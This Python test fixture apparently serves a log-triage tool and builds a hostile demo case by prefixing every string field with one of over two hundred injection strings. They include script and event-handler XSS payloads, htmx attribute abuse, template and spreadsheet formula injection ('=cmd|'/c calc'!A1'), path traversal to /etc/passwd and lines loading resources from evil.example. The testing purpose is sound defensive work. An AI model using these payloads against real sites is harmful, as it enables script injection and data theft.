"""Texts by which logs could try to become a part of the pages, and a case that has them in every field."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle, islice, product
from typing import Any

import pyarrow as pa

from stillhunt.triage import Case
from triage.fixtures import build, demo_case

RUN = "window.pwned=1"
"""What every one of them would do, if it could; besides asking evil.example for something."""
LONG = 4000
_MARKUP = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    f"<a href=javascript:{RUN}>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<p hx-get=/campaigns hx-trigger=load hx-on::load={RUN} hx-swap=outerHTML>",
    f"<p hx-post=/users hx-trigger=load hx-vals='js:{{a:{RUN}}}'>",
    f"<p data-hx-get=//evil.example/hx data-hx-trigger=load data-hx-on:click={RUN}>",
    f"<button data-confirm='<img src=x onerror={RUN}>' data-go=q data-key=e>x</button>",
    f"<tr data-href=javascript:{RUN}><td><a href=javascript:{RUN}>x</a></td></tr>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
_OPENERS = ("", '"><', "'><", "</script>", "</textarea></title></style>", "--><!--]]>", "\u202e\u2066")
_PLAIN = (
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% for x in y %}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{RUN}%3C%2Fscript%3E",
    f"\\u003cscript\\u003e{RUN}",
    "}body{background:url(//evil.example/b)}",
    "x;background:url(//evil.example/c);expression(1)",
    "\u202e\u2066cod.exe\u2069\u200f",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x00\x01\x7f\x85\u2028\u2029",
    "=cmd|'/c calc'!A1",
    '+HYPERLINK("http://evil.example";"x")',
    "@SUM(1+1)",
    "-2+3",
    "../../../etc/passwd",
    "//evil.example/",
    "?as=csv&sort=#x%00%",
    "e" + "\u0301" * 200,
    "\u0622" * 30,
    "a" * LONG,
    "<" * LONG,
)


def payloads() -> list[str]:
    """Two hundred and more, each another one."""
    return [*(opener + markup for opener, markup in product(_OPENERS, _MARKUP)), *_PLAIN]


def of_ids() -> list[str]:
    """Those that can stand in the id of a campaign, which is a part of an address: without a slash."""
    return [one.replace("/", "\u2044") for one in payloads()]


class _Bender:
    """Puts a text before each value, the same one before the same id."""

    def __init__(self) -> None:
        self._texts, self._ids = cycle(payloads()), cycle(of_ids())
        self._known: dict[tuple[str, str], str] = {}

    def bent(self, column: str, value: Any) -> Any:
        if isinstance(value, list):
            return [self.bent(column, one) for one in value]
        if not isinstance(value, str) or column in ("verdict", "family", "hash"):
            return value
        kind = {"tied_to": "campaign_id"}.get(column, column)
        if (kind, value) not in self._known:
            texts = self._ids if kind == "campaign_id" else self._texts
            self._known[kind, value] = next(texts) + value
        return self._known[kind, value]

    def table(self, name: str, table: pa.Table) -> pa.Table:
        rows = table.to_pylist()
        return build(name, [{column: self.bent(column, value) for column, value in row.items()} for row in rows])


def hostile_case() -> Case:
    """The demo case with one of these texts, in turn, before each string of each table; ids still fit together."""
    case, bender = demo_case(), _Bender()
    tables = {name: bender.table(name, table) for name, table in case.tables.items()}
    names = ("samples", "timeline", "member_details", "addresses")
    views = {name: bender.table(name, getattr(case, name)) for name in names}
    run = json.loads(json.dumps(case.run))
    texts: Iterator[str] = islice(cycle(payloads()), 20, None)
    run["inputs"] = [{**run["inputs"][0], "name": next(texts), "sha256": next(texts)} for _ in range(200)]
    run["coverage"][0] |= {"sentence": next(texts), "family": next(texts), "missing": [next(texts)]}
    run["version"] = run["settings"]["report"]["currency"] = next(texts)
    run["unenriched"] = [next(texts)]
    return Case(tables, run=run, **views)
